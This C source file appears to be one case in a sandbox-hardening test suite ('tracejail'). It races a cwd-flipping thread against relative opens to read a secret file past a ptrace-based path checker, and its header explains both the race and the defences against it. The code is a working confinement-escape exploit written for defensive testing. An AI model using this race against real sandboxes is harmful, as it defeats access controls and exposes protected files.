/* tracejail-escape
 * id: path-cwd-race
 * class: path aliasing
 * title: a thread flips the shared cwd while the main thread opens a relative name
 * covered: standard
 * needs: secret
 *
 * Technique: threads share one cwd (CLONE_FS). TJ_SCRATCH gets a decoy file with the secret's
 * name; a thread keeps switching the cwd between TJ_SCRATCH and TJ_SECRET_DIR while the main thread
 * opens the relative name "secret.txt" 20000 times. A checker that reads the cwd at the syscall
 * stop can see TJ_SCRATCH while the kernel, a moment later, resolves the name in TJ_SECRET_DIR.
 * Each open's real target is read back from /proc/self/fd/N.
 * Defence: checking the cwd at the stop is not enough, as the cwd can change before the kernel
 * reads it. The tracer pins the argument: it replaces the relative name with the absolute path it
 * resolved and checked (in memory the tracee cannot write), so a later cwd change has no effect.
 * Landlock (strict and above) checks the final file inside the kernel.
 */
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "escape.h"

enum { kAttempts = 20000 };

static atomic_int stop;
static int scratch_fd = -1, secret_dir_fd = -1;  /* fchdir targets when the fds exist */
static const char *scratch, *secret_dir;

/* Move the cwd by fd when we have one, else by name; a refused move leaves the cwd where it was. */
static int go(int fd, const char *path) {
  return (fd >= 0 ? fchdir(fd) : chdir(path)) == 0;
}

/* Flip the process-wide cwd as fast as possible until told to stop. */
static void *flipper(void *arg) {
  (void)arg;
  while (!atomic_load_explicit(&stop, memory_order_relaxed)) {
    go(secret_dir_fd, secret_dir);
    go(scratch_fd, scratch);
  }
  return NULL;
}

int main(void) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  secret = env("TJ_SECRET");
  secret_dir = env("TJ_SECRET_DIR");
  scratch = env("TJ_SCRATCH");
  secret_st_known = stat(secret, &secret_st) == 0;
  const char *base = strrchr(secret, '/') + 1;

  /* The decoy: a file with the secret's name in scratch. */
  char decoy[PATH_MAX + 256];
  snprintf(decoy, sizeof decoy, "%s/%s", scratch, base);
  int fd = open(decoy, O_WRONLY | O_CREAT | O_TRUNC, 0600);
  if (fd < 0 || write(fd, "decoy content (path_cwd_race)\n", 30) != 30) {
    printf("create scratch/%s: failed (%s)\n", base, ename(errno));
    printf("BLOCKED: creating the decoy in scratch -> %s\n", ename(errno));
    return 0;
  }
  close(fd);

  /* How will the flipper get into the secret directory? fchdir on fds is fastest (and carries no
     path for a checker to see); chdir by name is the fallback. */
  scratch_fd = open(scratch, O_PATH | O_DIRECTORY);
  secret_dir_fd = open(secret_dir, O_PATH | O_DIRECTORY);
  int err = errno;
  printf("open(secret dir, O_PATH) for fchdir: %s (%s)\n", secret_dir_fd >= 0 ? "succeeded" : "failed",
         secret_dir_fd >= 0 ? "ok" : ename(err));
  if (secret_dir_fd >= 0 && fchdir(secret_dir_fd) != 0) {
    err = errno;
    printf("fchdir(secret dir): failed (%s), falling back to chdir\n", ename(err));
    close(secret_dir_fd);
    secret_dir_fd = -1;
  }
  if (secret_dir_fd < 0) {
    int ok = chdir(secret_dir) == 0;
    err = errno;
    printf("chdir(secret dir): %s (%s)\n", ok ? "succeeded" : "failed", ok ? "ok" : ename(err));
  }
  /* Control: the same relative open with the cwd parked in the secret directory, no race. */
  if (go(secret_dir_fd, secret_dir)) {
    errno = 0;
    attempt("control: open(\"<file>\") with cwd = secret dir, no race", open(base, O_RDONLY));
  }
  if (chdir(scratch) != 0) {
    printf("chdir(scratch): failed (%s)\n", ename(errno));
    printf("BLOCKED: chdir(scratch) -> %s\n", ename(errno));
    return 0;
  }

  pthread_t t;
  if (pthread_create(&t, NULL, flipper, NULL) != 0) {
    printf("BLOCKED: pthread_create failed\n");
    return 0;
  }
  long got_secret = 0, got_decoy = 0, denied = 0, other = 0;
  int first_err = 0;
  char line[160] = "";
  for (int i = 0; i < kAttempts; ++i) {
    int f = open(base, O_RDONLY);
    if (f < 0) {
      if (errno == EACCES || errno == EPERM) ++denied; else ++other;
      if (first_err == 0) first_err = errno;
      continue;
    }
    /* Which file did the kernel open? Ask the fd, not the cwd. */
    char link[64], path[PATH_MAX];
    snprintf(link, sizeof link, "/proc/self/fd/%d", f);
    ssize_t n = readlink(link, path, sizeof path - 1);
    path[n > 0 ? n : 0] = '\0';
    if (strcmp(path, secret) == 0 || is_secret(f)) {
      if (got_secret++ == 0) {
        ssize_t r = read(f, line, sizeof line - 1);
        line[r > 0 ? r : 0] = '\0';
        line[strcspn(line, "\n")] = '\0';
      }
    } else {
      ++got_decoy;
    }
    close(f);
  }
  atomic_store(&stop, 1);
  pthread_join(t, NULL);
  unlink(decoy);

  printf("open(\"%s\") x %d with a cwd-flipping thread: secret=%ld decoy=%ld denied=%ld other=%ld (%s)\n",
         base, kAttempts, got_secret, got_decoy, denied, other, first_err ? ename(first_err) : "ok");
  if (got_secret)
    printf("ESCAPED: %ld of %d relative opens reached the secret (secret: \"%s\")\n", got_secret,
           kAttempts, line);
  else if (escaped)
    printf("ESCAPED: %s (secret: \"%s\")\n", escapes, token);
  else
    printf("BLOCKED: relative open -> secret=0 (decoy=%ld, denied=%ld %s, other=%ld)\n", got_decoy,
           denied, first_err ? ename(first_err) : "", other);
  return 0;
}
